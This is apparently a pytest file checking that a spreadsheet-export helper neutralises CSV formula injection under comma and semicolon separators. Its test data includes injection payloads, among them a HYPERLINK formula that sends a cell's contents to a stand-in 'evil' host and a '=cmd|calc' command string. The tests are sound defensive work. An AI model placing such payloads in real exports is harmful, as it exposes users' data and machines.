"""CSV injection: no cell of an export starts a formula, whichever separator opens the file."""

from __future__ import annotations

import csv
import io

import pytest

from karib.core.spreadsheets import spreadsheet_safe, spreadsheet_unescape

HOSTILE = [
    "x;=1+1;y",
    "x,=1+1,y",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "Budi; +62 812",
    "a; @SUM(A1:A9)",
    'quoted"; "=cmd|calc',
    "tab;\t=1",
    "-2+3",
    "ok,-cmd",
]
HARMLESS = ["Pak Suryo", "Rp 500.000,-", "Jakarta - Selatan", "e-mail: a@b.id", "", "'quoted"]


def opened_with(separator: str, rows: list[list[object]], *, written_with: str) -> list[str]:
    """Every cell a spreadsheet sees when it opens the file with `separator`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=written_with)
    for row in rows:
        writer.writerow([spreadsheet_safe(value) for value in row])
    return [
        cell
        for row in csv.reader(io.StringIO(buffer.getvalue()), delimiter=separator)
        for cell in row
    ]


def runs_as_formula(cell: str) -> bool:
    return cell.lstrip(' "').startswith(("=", "+", "-", "@", "\t", "\r")) and cell.strip(
        ' "'
    ) not in {"-", "+"}


@pytest.mark.parametrize("written_with", [",", ";"])
@pytest.mark.parametrize("separator", [",", ";"])
def test_no_cell_runs_as_a_formula_under_either_separator(written_with, separator):
    # given hostile text in several columns, written with one separator
    rows = [[text, 5, text] for text in HOSTILE]
    # when the file is opened with either separator
    cells = opened_with(separator, rows, written_with=written_with)
    # then no cell starts a formula
    assert [cell for cell in cells if runs_as_formula(cell)] == []


def test_the_semicolon_example_stays_one_text_cell_per_piece():
    # given the cell from the issue, written by a comma CSV writer
    cells = opened_with(";", [["x;=1+1;y"]], written_with=",")
    # then opened with ";" the middle piece is text, not a formula
    assert cells == ["x", "'=1+1", "y"]


def test_neutralising_is_undone_on_import_and_leaves_plain_text_alone():
    for text in HOSTILE + HARMLESS:
        assert spreadsheet_unescape(spreadsheet_safe(text)) == text
    for text in HARMLESS:
        assert spreadsheet_safe(text) == text
    # numbers and empty values stay what they are
    assert spreadsheet_safe(-3) == -3
    assert spreadsheet_safe(None) is None
